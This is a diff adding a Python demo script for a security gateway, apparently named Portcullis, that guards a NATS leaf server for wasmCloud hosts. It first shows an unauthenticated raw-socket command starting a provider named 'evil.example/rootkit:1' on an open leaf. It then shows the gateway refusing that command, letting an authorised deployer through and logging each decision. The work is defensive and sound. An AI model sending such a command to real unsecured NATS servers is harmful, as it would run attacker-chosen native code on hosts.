@@ -1,0 +1,260 @@
+"""What scripts/demo shows. Everything is real: nats-server, the gateway, raw sockets; 127.0.0.1 only."""
+import json
+import os
+import shlex
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "tests", "support"))
+from portcullis_test import gateway, natsjwt, process, rawclient, server  # noqa: E402
+
+COLOUR = sys.stdout.isatty() and "NO_COLOR" not in os.environ
+ATTACK_BODY = b'{"host_id":"%s","provider_ref":"evil.example/rootkit:1","link_name":"default"}'
+
+
+def paint(code, text):
+    return f"\033[{code}m{text}\033[0m" if COLOUR else text
+
+
+def title(text):
+    print("\n" + paint("1", text))
+
+
+def bad(text):
+    print("  " + paint("31", text))
+
+
+def good(text):
+    print("  " + paint("32", text))
+
+
+def plain(text):
+    print("  " + text)
+
+
+def free_port():
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def attack_bytes(host):
+    body = ATTACK_BODY % host.encode()
+    return b"PUB wasmbus.ctl.default.cmd.%s.lp %d\r\n%s\r\n" % (host.encode(), len(body), body)
+
+
+def raw_attack(port, first, host):
+    """What any code that can open a socket can do. Returns what it was told before the end."""
+    raw = rawclient.Raw("127.0.0.1", port)
+    raw.line()
+    raw.send(first + attack_bytes(host) + b"PING\r\n")
+    said = []
+    try:
+        while True:
+            line = raw.line()
+            said.append(line.decode())
+            if line == b"PONG":
+                break
+    except rawclient.Failed:
+        pass
+    raw.close()
+    return said
+
+
+class Failure(Exception):
+    """The demo did not show what it promises."""
+
+
+def check(condition, what):
+    if not condition:
+        raise Failure(what)
+
+
+def open_leaf(folder, host):
+    title("1. Today: a passwordless leaf")
+    leaf = server.NatsServer(server.open_conf(folder))
+    try:
+        watcher = rawclient.Client("127.0.0.1", leaf.port)
+        watcher.subscribe("wasmbus.ctl.>")
+        watcher.barrier()
+        plain(f"nats-server on 127.0.0.1:{leaf.port}, as hosts reach it: no credentials asked.")
+        plain("Any code on the machine writes one line to a socket:")
+        plain("  " + attack_bytes(host).split(b"\r\n")[0].decode())
+        said = raw_attack(leaf.port, b"", host)
+        message = watcher.next()
+        check("PONG" in said and message.subject.endswith(".lp"), "the open leaf refused the attack")
+        bad(f"ARRIVED  start provider {json.loads(message.payload)['provider_ref']}: native code on the host.")
+        watcher.close()
+    finally:
+        leaf.stop(10)
+
+
+class Gate:
+    """A deployment as `portcullis init` writes it, started."""
+
+    def __init__(self, folder, bin_dir):
+        self.dir = os.path.join(folder, "deployment")
+        self.listen, leaf_port = free_port(), free_port()
+        self.init = ["portcullis", "init", self.dir, "--listen", f"127.0.0.1:{self.listen}"]
+        self.init += ["--leaf", f"127.0.0.1:{leaf_port}"]
+        self.bin_dir = bin_dir
+        subprocess.run([os.path.join(bin_dir, self.init[0])] + self.init[1:], check=True, stdout=subprocess.DEVNULL)
+        self.leaf = server.NatsServer(os.path.join(self.dir, "leaf.conf"))
+        self.gateway = None
+        try:
+            binary = os.path.join(bin_dir, "portcullis-gateway")
+            self.gateway = gateway.Gateway(binary, os.path.join(self.dir, "gateway.conf"))
+        except BaseException:
+            self.stop()
+            raise
+
+    def creds(self, role):
+        return natsjwt.read_creds(os.path.join(self.dir, "creds", role + ".creds"))
+
+    def client(self, role):
+        return rawclient.Client("127.0.0.1", self.gateway.port, self.creds(role))
+
+    def host_id(self):
+        tags = natsjwt.decode(self.creds("host")[0])["nats"]["tags"]
+        return next(t for t in tags if t.startswith("host:"))[5:].upper()
+
+    def observer(self):
+        """Somebody who holds the leaf's own account key, to look past the gate at what arrives."""
+        with open(os.path.join(self.dir, "keys", "upstream.keys"), encoding="ascii") as f:
+            line = next(x for x in f if x.strip() and not x.startswith("#"))
+        account, user = natsjwt.KeyPair.from_seed(line.split()[1]), natsjwt.KeyPair("user")
+        token = natsjwt.mint_user(account, user.public, "observer")
+        return rawclient.Client("127.0.0.1", self.leaf.port, (token, user))
+
+    def decisions(self):
+        return gateway.json_lines(os.path.join(self.dir, "log", "decisions.jsonl"))
+
+    def stop(self):
+        for child in (self.gateway, self.leaf):
+            if child is not None:
+                child.stop(10)
+
+
+def detach(gate):
+    """Start leaf and gateway again, writing to files: they outlive this program. Returns their pids."""
+    gate.stop()
+    pids = []
+    commands = {
+        "leaf": [server.find(), "-c", "leaf.conf"],
+        "gateway": [os.path.join(gate.bin_dir, "portcullis-gateway"), "-c", "gateway.conf"],
+    }
+    for name, argv in commands.items():
+        with open(os.path.join(gate.dir, "log", name + ".log"), "ab") as log:
+            child = subprocess.Popen(
+                argv, cwd=gate.dir, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True
+            )
+        pids.append(child.pid)
+    return pids
+
+
+def refused(name, said, words):
+    check(any(words in line for line in said), f"{name}: expected {words}, got {said}")
+    good(f"REFUSED  {name}: {next(line for line in said if words in line)[:110]}")
+
+
+def through_the_gate(gate):
+    title("2. With Portcullis: the same leaf behind the gate")
+    plain("$ " + " ".join(shlex.quote(w) for w in gate.init))
+    plain(f"leaf on 127.0.0.1:{gate.leaf.port} (accepts the gateway alone), gateway on 127.0.0.1:{gate.listen}")
+    host_id = gate.host_id()
+    watcher = gate.observer()
+    watcher.subscribe("wasmbus.ctl.>")
+    watcher.barrier()
+    host = gate.client("host")
+    host.subscribe(f"wasmbus.ctl.default.cmd.{host_id}.*")
+    host.barrier()
+
+    plain("The same attack:")
+    port = gate.gateway.port
+    refused("without CONNECT", raw_attack(port, b"", host_id), "Authorization Violation")
+    refused("anonymous CONNECT", raw_attack(port, b"CONNECT {}\r\n", host_id), "Authorization Violation")
+    refused("straight to the leaf", raw_attack(gate.leaf.port, b"CONNECT {}\r\n", host_id), "Authorization Violation")
+    for role in ("observer", "host"):
+        thief = gate.client(role)
+        thief.raw.send(attack_bytes(host_id))
+        thief.barrier()
+        refused(f"stolen {role}.creds", thief.errors, "Permissions Violation")
+        thief.close()
+    watcher.nothing()
+    host.nothing()
+    good("SILENCE  an observer straight on the leaf saw none of it; nor did the host.")
+
+    title("3. Who may, does")
+    deployer = gate.client("deployer")
+    inbox = "_INBOX.demo.1"
+    deployer.subscribe(inbox)
+    body = b'{"host_id":"%s","provider_ref":"registry.example/httpserver:1","link_name":"default"}'
+    body %= host_id.encode()
+    deployer.publish(f"wasmbus.ctl.default.cmd.{host_id}.lp", body, inbox)
+    asked = host.next()
+    host.publish(asked.reply, b'{"accepted":true,"error":""}')
+    answer = deployer.next()
+    check(answer.payload == b'{"accepted":true,"error":""}', "the answer did not come back")
+    check(watcher.next().payload == body, "the command did not cross byte for byte")
+    good("ALLOWED  deployer.creds: start provider httpserver, asked through the gate, answered by the host.")
+    for client in (deployer, host, watcher):
+        client.close()
+
+
+def show(gate):
+    """The gateway is stopped first: what it had to write is then written."""
+    gate.gateway.stop(10)
+    title("4. What is on record")
+    for line in gate.decisions():
+        event = line["event"]
+        who = line.get("name", "a stranger")
+        if event == "command":
+            what = f"{line['decision']} {line['verb']} on {line['host'][:8]}..."
+            plain(f"{event:15} {who:10} {what}  rule={line['rule']}  record {line['seq']}")
+        elif event == "command_denied":
+            plain(f"{event:15} {who:10} deny {line['verb']}  rule={line['rule']}  ({line['reason']})")
+        elif event in ("login_failed", "login_refused"):
+            plain(f"{event:15} {who:10} {line.get('reason', '')}  from {line['source']}")
+    plain("Log: log/decisions.jsonl; commands, durable before they were forwarded: audit/records.jsonl")
+
+
+def keep(gate):
+    d = shlex.quote(gate.dir)
+    pids = detach(gate)
+    title("Running again, until you stop it. Try:")
+    plain(f"tail -f {d}/log/decisions.jsonl")
+    plain(f"build/release/bin/portcullis creds show {d}/creds/deployer.creds")
+    plain(f"build/release/bin/portcullis creds issue --dir {d} --role observer --name me --out me.creds")
+    plain(f"build/release/bin/portcullis check -c {d}/gateway.conf")
+    plain(f"any NATS client: server nats://127.0.0.1:{gate.listen}, credentials {d}/creds/admin.creds")
+    plain(f"stop: kill {pids[1]} {pids[0]}; then remove {d}")
+
+
+def main():
+    bin_dir, stay = os.path.abspath(sys.argv[1]), "--keep" in sys.argv[2:]
+    folder = tempfile.mkdtemp(prefix="portcullis-demo-")
+    gate, kept = None, False
+    try:
+        open_leaf(folder, "NDEMOHOST")
+        gate = Gate(folder, bin_dir)
+        through_the_gate(gate)
+        show(gate)
+        if stay:
+            keep(gate)
+            kept = True
+    except (Failure, process.Failed) as e:
+        print(paint("31", f"demo failed: {e}"), file=sys.stderr)
+        return 1
+    finally:
+        if gate is not None and not kept:
+            gate.stop()
+        if not kept:
+            shutil.rmtree(folder, ignore_errors=True)
+    print()
+    return 0
+
+
+sys.exit(main())
